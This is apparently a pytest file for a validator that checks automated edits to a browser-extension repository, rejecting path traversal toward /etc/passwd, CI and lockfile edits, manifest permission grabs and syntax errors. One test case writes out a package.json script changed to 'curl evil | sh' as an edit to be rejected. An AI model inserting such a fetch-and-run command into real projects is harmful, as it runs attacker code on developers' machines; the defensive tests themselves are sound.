"""validate_edits: every rejection has its stable reason code; good edits give changes and a diff."""

from __future__ import annotations

import json

import pytest

from homeostat_core.fixing.validation import REASON_CODES, Rejection, ValidatedChange, validate_edits
from homeostat_core.models import FileEdit
from tests.unit.fixing.fakes import POPUP_JS, repo_config

MANIFEST = json.dumps(
    {
        "manifest_version": 3,
        "name": "Ext",
        "version": "1.0.0",
        "permissions": ["storage"],
        "description": "old",
    },
    indent=2,
)
PACKAGE = json.dumps(
    {"name": "ext", "version": "1.0.0", "scripts": {"test": "jest"}, "dependencies": {}}, indent=2
)
FILES = {
    "src/popup.js": POPUP_JS,
    "src/util.ts": "export function n(x: number): number {\n  return x + 1;\n}\n",
    "src/dup.js": "call();\ncall();\n",
    "src/vendor/lib.js": "var a = 1;\n",
    "src/logo.png": "PNG",
    "src/blob.js": "abc\x00def",
    "manifest.json": MANIFEST,
    "package.json": PACKAGE,
    ".github/workflows/ci.yml": "on: push\n",
    "src/a.js": "a();\n",
    "src/b.js": "b();\n",
    "src/c.js": "c();\n",
    "src/d.js": "d();\n",
}


def validate(*edits: FileEdit, **config):
    return validate_edits(list(edits), repo_config(**config), FILES.get)


def rejected(result) -> str:
    assert isinstance(result, Rejection), result
    assert result.reason_code in REASON_CODES
    return result.reason_code


def test_valid_edit_gives_full_content_diff_and_line_count():
    result = validate(
        FileEdit(
            "src/popup.js", "for (const item of list.items) {", "for (const item of list?.items ?? []) {"
        )
    )
    assert isinstance(result, ValidatedChange)
    (change,) = result.changes
    assert change.path == "src/popup.js"
    assert "list?.items ?? []" in change.content
    assert change.content == POPUP_JS.replace("of list.items", "of list?.items ?? []")
    assert result.diff.startswith("--- a/src/popup.js\n+++ b/src/popup.js\n")
    assert "-  for (const item of list.items) {" in result.diff
    assert result.lines_changed == 2


def test_edits_to_one_file_apply_in_order():
    result = validate(
        FileEdit("src/popup.js", "let total = 0;", "let total = 0; // sum"),
        FileEdit("src/popup.js", "let total = 0; // sum", "let total = 0; // sum of counts"),
    )
    assert isinstance(result, ValidatedChange)
    assert "// sum of counts" in result.changes[0].content
    assert result.lines_changed == 2


@pytest.mark.parametrize(
    ("edit", "code"),
    [
        (FileEdit("src/popup.js", "no such text", "x"), "edit_not_found"),
        (FileEdit("src/dup.js", "call();", "go();"), "edit_ambiguous"),
        (FileEdit("src/missing.js", "a", "b"), "file_not_found"),
        (FileEdit("lib/other.js", "a", "b"), "path_filtered"),
        (FileEdit("src/vendor/lib.js", "var a = 1;", "var a = 2;"), "path_filtered"),
        (FileEdit("../etc/passwd", "a", "b"), "path_filtered"),
        (FileEdit("/etc/passwd", "a", "b"), "path_filtered"),
        (FileEdit(".github/workflows/ci.yml", "on: push", "on: [push, pull_request]"), "forbidden_path"),
        (FileEdit("src/../.github/workflows/ci.yml", "on: push", "on: pull_request"), "forbidden_path"),
        (FileEdit("src/.circleci/config.yml", "a", "b"), "forbidden_path"),
        (FileEdit("src/yarn.lock", "a", "b"), "forbidden_path"),
        (FileEdit("src/Gemfile.lock", "a", "b"), "forbidden_path"),
        (FileEdit("src/package-lock.json", "a", "b"), "forbidden_path"),
        (FileEdit("src/.gitlab-ci.yml", "a", "b"), "forbidden_path"),
        (FileEdit("src/Jenkinsfile", "a", "b"), "forbidden_path"),
        (FileEdit("src/logo.png", "PNG", "GIF"), "binary_file"),
        (FileEdit("src/blob.js", "abc", "xyz"), "binary_file"),
        (FileEdit("src/popup.js", "return total;", "return total;\x00"), "binary_file"),
        (FileEdit("manifest.json", '"storage"', '"storage", "tabs"'), "manifest_permissions"),
        (
            FileEdit(
                "manifest.json",
                '"manifest_version": 3,',
                '"manifest_version": 3, "host_permissions": ["<all_urls>"],',
            ),
            "manifest_permissions",
        ),
        # Chrome accepts a trailing comma in manifest.json; npm does not in package.json
        (FileEdit("manifest.json", '"description": "old"', '"description": "old'), "syntax_error"),
        (FileEdit("package.json", '"dependencies": {}', '"dependencies": {},'), "syntax_error"),
        (FileEdit("package.json", '"test": "jest"', '"test": "curl evil | sh"'), "package_scripts"),
        (
            FileEdit("package.json", '"dependencies": {}', '"dependencies": {"left-pad": "1"}'),
            "package_scripts",
        ),
        (FileEdit("src/popup.js", "return total;\n}", "return total;\n"), "syntax_error"),
        (FileEdit("src/popup.js", "total += item.count;", "total += item.count +;"), "syntax_error"),
        (FileEdit("src/util.ts", "x + 1;", "x + ;"), "syntax_error"),
        (FileEdit("src/popup.js", "let total = 0;", "let total = 0;"), "no_change"),
    ],
)
def test_rejections_carry_stable_reason_codes(edit, code):
    assert rejected(validate(edit)) == code


def test_harmless_manifest_and_package_changes_pass():
    assert isinstance(
        validate(FileEdit("manifest.json", '"description": "old"', '"description": "new"')), ValidatedChange
    )
    assert isinstance(
        validate(FileEdit("package.json", '"version": "1.0.0"', '"version": "1.0.1"')), ValidatedChange
    )


def test_typescript_still_parses_with_types():
    result = validate(FileEdit("src/util.ts", "return x + 1;", "const y: number = x + 1;\n  return y;"))
    assert isinstance(result, ValidatedChange)


def test_a_file_that_was_already_broken_may_stay_as_broken():
    broken = {"src/x.js": "function f( {\n  return 1;\n}\nconst a = 1;\n"}
    result = validate_edits([FileEdit("src/x.js", "const a = 1;", "const a = 2;")], repo_config(), broken.get)
    assert isinstance(result, ValidatedChange)


def test_too_many_files():
    edits = [FileEdit(f"src/{c}.js", f"{c}();", f"{c}(1);") for c in "abcd"]
    assert rejected(validate(*edits)) == "too_many_files"
    assert isinstance(validate(*edits, max_files_changed=4), ValidatedChange)


def test_too_many_lines():
    long_replace = "let total = 0;\n" + "".join(f"  // line {i}\n" for i in range(60))
    edit = FileEdit("src/popup.js", "let total = 0;", long_replace)
    assert isinstance(validate(edit), ValidatedChange)
    assert rejected(validate(edit, max_lines_changed=40)) == "too_many_lines"


def test_no_edits():
    assert rejected(validate()) == "no_edits"


def test_whitespace_hint_on_near_miss():
    result = validate(FileEdit("src/popup.js", "let total = 0;   ", "let total = 1;"))
    assert rejected(result) == "edit_not_found"
    assert "trimming whitespace" in result.detail
